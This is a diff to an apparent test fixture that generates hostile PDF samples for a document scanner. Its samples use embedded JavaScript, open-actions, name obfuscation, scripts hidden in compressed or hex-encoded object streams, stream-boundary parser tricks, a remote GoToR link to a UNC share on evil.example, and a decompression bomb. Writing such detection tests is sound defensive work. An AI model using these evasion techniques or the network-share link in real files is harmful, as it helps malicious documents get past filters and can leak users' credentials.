@@ -88,6 +88,7 @@ export function badDocuments(): Sent[] {
   const raw = (what: string, data: Buffer, name = 'guide.pdf') => ({ what, name, type: 'application/pdf', data });
   const packed = (words: string) => deflateSync(Buffer.from(words)).toString('latin1');
   const inObjects = (words: string, filter = '/Filter /FlateDecode') => `9 0 obj<</Type/ObjStm/N 1/First 4 ${filter}>>stream\n${packed(words)}\nendstream endobj`;
+  const hidden = '3 0 <</S/JavaScript/JS(app.alert(1))>>';
   return [
     pdf('a PDF with a script', '3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj'),
     pdf('a PDF that acts when it is opened', '3 0 obj<</Type/Catalog/OpenAction 4 0 R>>endobj'),
@@ -98,9 +99,14 @@ export function badDocuments(): Sent[] {
     pdf('a PDF with a film', '3 0 obj<</Subtype/RichMedia>>endobj'),
     pdf('a PDF with an XML form', '3 0 obj<</AcroForm<</XFA 4 0 R>>>>endobj'),
     pdf('a PDF whose script is spelt in digits', '3 0 obj<</S/J#61va#53cript/JS(app.alert(1))>>endobj'),
-    pdf('a PDF whose script is packed', inObjects('3 0 <</S/JavaScript/JS(app.alert(1))>>')),
+    pdf('a PDF whose script is packed', inObjects(hidden)),
     pdf('a PDF whose script is packed and spelt in digits', inObjects('3 0 <</S/Java#53cript>>')),
     pdf('a PDF whose script is packed twice', inObjects('3 0 <<>>', '/Filter [/ASCIIHexDecode /FlateDecode]')),
+    pdf('a PDF whose packed script is not whole', inObjects(hidden).replace(packed(hidden), packed(hidden).slice(0, -4))),
+    pdf('a PDF whose script is packed in digits behind a text', `9 0 obj<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/X(obj)>>stream\n${Buffer.from(hidden).toString('hex')}>\nendstream endobj`),
+    pdf('a PDF whose script is packed in digits before a text', `9 0 obj<</Filter/ASCIIHexDecode/X(1 0 obj<<)/Type/ObjStm/N 1/First 4>>stream\n${Buffer.from(hidden).toString('hex')}>\nendstream endobj`),
+    pdf('a PDF whose packed script begins behind half a line end', inObjects(hidden).replace('stream\n', 'stream\r')),
+    pdf('a PDF that opens a file of a network', '3 0 obj<</S/GoToR/F(\\\\evil.example\\share\\x.pdf)>>endobj'),
     pdf('a PDF whose script hides behind a text', '3 0 obj<</X(>> stream\n)/OpenAction 4 0 R/Y(endstream)>>endobj'),
     pdf('a PDF with a password', '3 0 obj<</Encrypt 4 0 R>>endobj'),
     pdf('a PDF that unpacks to 70 MB', `9 0 obj<</Filter/FlateDecode>>stream\n${deflateSync(Buffer.alloc(70_000_000)).toString('latin1')}\nendstream endobj`),
